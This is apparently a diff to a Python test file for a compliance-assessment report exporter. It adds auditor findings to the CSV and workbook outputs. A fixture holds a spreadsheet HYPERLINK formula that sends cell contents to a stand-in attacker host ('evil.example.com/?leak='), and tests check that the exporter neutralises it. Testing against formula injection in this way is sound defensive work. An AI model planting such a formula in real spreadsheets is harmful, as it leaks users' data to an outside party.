@@ -16,6 +16,7 @@ from assessment.domain.answers import read_answers_file
 from assessment.domain.loader import load_framework_file
 from reports.exports import (
     BACKLOG_COLUMNS,
+    FINDING_COLUMNS,
     REQUIREMENT_COLUMNS,
     backlog_csv,
     neutralise,
@@ -23,7 +24,7 @@ from reports.exports import (
     score_json,
     workbook_xlsx,
 )
-from reports.model import BacklogEntry, Report, ReportMeta, build_report
+from reports.model import BacklogEntry, FindingEntry, Report, ReportMeta, build_report
 from tests.conftest import EXAMPLES
 from tests.unit.test_examples import assert_close
 
@@ -31,15 +32,20 @@ HYPERLINK = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click")'
 GENERATED = dt.datetime(2026, 11, 22, 9, 30, tzinfo=dt.UTC)
 
 
-def example_report(notes: dict[str, str] | None = None, backlog: tuple[BacklogEntry, ...] | None = None) -> Report:
+def example_report(
+    notes: dict[str, str] | None = None,
+    backlog: tuple[BacklogEntry, ...] | None = None,
+    findings: tuple[FindingEntry, ...] = (),
+    meta: ReportMeta | None = None,
+) -> Report:
     """The devops example's report, with some notes replaced."""
     framework = load_framework_file(EXAMPLES / "devops-delivery.yaml")
     answers = read_answers_file(EXAMPLES / "devops-delivery.answers.yaml", framework)
     if notes:
         changed = {rid: replace(a, note=notes.get(rid, a.note)) for rid, a in answers.answers.items()}
         answers = replace(answers, answers=changed)
-    meta = ReportMeta(scope=answers.scope, generated_at=GENERATED, prepared_by="Quality office")
-    return build_report(framework, answers, meta, backlog=backlog)
+    meta = meta or ReportMeta(scope=answers.scope, generated_at=GENERATED, prepared_by="Quality office")
+    return build_report(framework, answers, meta, backlog=backlog, findings=findings)
 
 
 def csv_rows(text: str) -> list[dict[str, str]]:
@@ -74,6 +80,9 @@ def test_requirements_csv_has_one_row_per_requirement(report):
         "unsupported": "no",
         "note": "",
         "evidence": "E-001",
+        "review": "",
+        "severity": "",
+        "review_comment": "",
     }
     assert (rows["CI-02"]["answer"], rows["CI-02"]["value"], rows["CI-02"]["credit"]) == (
         "Most services",
@@ -177,7 +186,7 @@ def header(ws) -> list:
 
 
 def test_workbook_has_its_sheets_with_bold_frozen_headers(workbook):
-    assert workbook.sheetnames == ["Summary", "Requirements", "Evidence", "Gaps", "Backlog"]
+    assert workbook.sheetnames == ["Summary", "Requirements", "Evidence", "Gaps", "Backlog", "Findings"]
     for ws in workbook.worksheets:
         assert ws.freeze_panes == "A2", ws.title
         assert all(cell.font.bold for cell in ws[1] if cell.value is not None), ws.title
@@ -185,6 +194,7 @@ def test_workbook_has_its_sheets_with_bold_frozen_headers(workbook):
     assert header(workbook["Backlog"]) == list(BACKLOG_COLUMNS)
     assert header(workbook["Evidence"])[:3] == ["number", "title", "requirements"]
     assert header(workbook["Gaps"])[0] == "requirement_id"
+    assert header(workbook["Findings"]) == list(FINDING_COLUMNS) and workbook["Findings"].max_row == 1
 
 
 def test_workbook_summary_gives_report_facts_and_scores(workbook, report):
@@ -237,3 +247,65 @@ def test_workbook_gaps_match_the_score(workbook):
 def test_score_json_is_the_spec_output(report):
     expected = json.loads((EXAMPLES / "devops-delivery.expected.json").read_text())
     assert_close(json.loads(score_json(report)), expected)
+
+
+# --- auditors' reviews --------------------------------------------------------------------------------
+
+REVIEWED = dt.datetime(2026, 11, 21, 16, 45, tzinfo=dt.UTC)
+FINDINGS = (
+    FindingEntry("CI-02", "otto", "finding", "major", HYPERLINK, REVIEWED),
+    FindingEntry("CI-02", "audrey", "finding", "minor", "Tests are not a required check.", REVIEWED),
+    FindingEntry("CI-01", "audrey", "verified", None, None, REVIEWED),
+)
+
+
+@pytest.fixture(scope="module")
+def reviewed() -> Report:
+    """The example report approved by "lead", with findings of two auditors (one formula-like)."""
+    meta = ReportMeta(scope="Payments platform", status="approved", generated_at=GENERATED, approved_by="lead",
+                      approved_at=REVIEWED)  # fmt: skip
+    return example_report(findings=FINDINGS, meta=meta)
+
+
+def test_requirements_csv_sums_up_each_requirements_reviews(reviewed):
+    rows = {row["requirement_id"]: row for row in csv_rows(requirements_csv(reviewed))}
+    assert (rows["CI-01"]["review"], rows["CI-01"]["severity"], rows["CI-01"]["review_comment"]) == (
+        "audrey: verified",
+        "",
+        "",
+    )
+    ci02 = rows["CI-02"]
+    assert ci02["review"] == "audrey: finding (minor); otto: finding (major)"
+    assert ci02["severity"] == "major"  # the most severe
+    assert ci02["review_comment"] == f"audrey: Tests are not a required check.; otto: {HYPERLINK}"
+    assert (rows["OPS-01"]["review"], rows["OPS-01"]["severity"]) == ("", "")
+
+
+def test_a_formula_in_a_finding_is_neutralised(reviewed):
+    lone = example_report(findings=(FindingEntry("OPS-01", "otto", "finding", "minor", HYPERLINK, REVIEWED),))
+    rows = {row["requirement_id"]: row for row in csv_rows(requirements_csv(lone))}
+    assert rows["OPS-01"]["review_comment"] == f"otto: {HYPERLINK}"  # not at the start of the cell
+    wb = load_workbook(io.BytesIO(workbook_xlsx(reviewed)))
+    (cell,) = [row[6] for row in wb["Findings"].iter_rows(min_row=2) if row[3].value == "otto"]
+    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix
+
+
+def test_workbook_has_a_findings_sheet_and_the_approval(reviewed):
+    wb = load_workbook(io.BytesIO(workbook_xlsx(reviewed)))
+    rows = list(wb["Findings"].iter_rows(min_row=2, values_only=True))
+    assert [r[:6] for r in rows] == [
+        ("CI-01", "CI", "Every change builds automatically", "audrey", "verified", None),
+        ("CI-02", "CI", "Automated tests gate merges", "audrey", "finding", "minor"),
+        ("CI-02", "CI", "Automated tests gate merges", "otto", "finding", "major"),
+    ]
+    assert rows[1][6] == "Tests are not a required check." and rows[1][7] == dt.datetime(2026, 11, 21, 16, 45)
+    requirements = {r[2]: r for r in wb["Requirements"].iter_rows(min_row=2, values_only=True)}
+    assert requirements["CI-02"][-2] == "major"
+    facts = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, max_col=2, values_only=True) if row[0]}
+    assert (facts["Approved by"], facts["Approved at (UTC)"]) == ("lead", dt.datetime(2026, 11, 21, 16, 45))
+    assert "Submitted by" not in facts
+
+
+def test_score_json_does_not_change_with_reviews(report, reviewed):
+    assert score_json(reviewed) == score_json(report)
+    assert "finding" not in score_json(reviewed) and "audrey" not in score_json(reviewed)
